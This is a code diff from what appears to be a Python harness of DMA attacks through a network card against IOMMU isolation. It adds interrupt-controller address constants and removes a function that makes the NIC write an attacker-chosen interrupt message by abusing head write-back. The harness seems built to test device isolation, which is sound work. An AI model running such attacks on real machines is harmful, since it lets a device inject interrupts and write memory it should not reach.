@@ -83,6 +83,8 @@ def _page_behind(*ends: int) -> int:
     return max(-(-end // 4096) * 4096 for end in ends)
 
 
+# The interrupt controller: entry 0x1234 of the remapping table; the older format, that names a vector.
+REMAPPABLE, COMPATIBLE = 0xFEE2_4690, 0xFEE0_0000
 # Beside what the lease maps for the first port, and what it maps for the second one.
 NEAR: dict[str, Target] = {
     "the page before the packets": lambda port: _page_before(port.packets.iova),
@@ -185,19 +187,6 @@ def ring_at(*targets: Target) -> Attack:
 def _write_head_to(port: Port, iova: int) -> None:
     """Head write-back there, four bytes; it is done when the NIC has sent a frame."""
     port.register(TDWBAL + 4).value, port.register(TDWBAL).value = iova >> 32, iova & 0xFFFFFFFC | 1
-
-
-def interrupt_at(iova: int, vector: int) -> Attack:
-    """Let the NIC write an interrupt message of the attacker's choice: after so many frames its head is the vector."""
-
-    def attack(port: Port) -> str:
-        _write_head_to(port, iova)
-        frame = port.put(64, FRAME)
-        for _ in range(vector):
-            port.send(frame)
-        return "sent" if wait(lambda: port.register(TDH).value == vector) else "not sent"
-
-    return attack
 
 
 def head_written_to(*targets: Target) -> Attack:
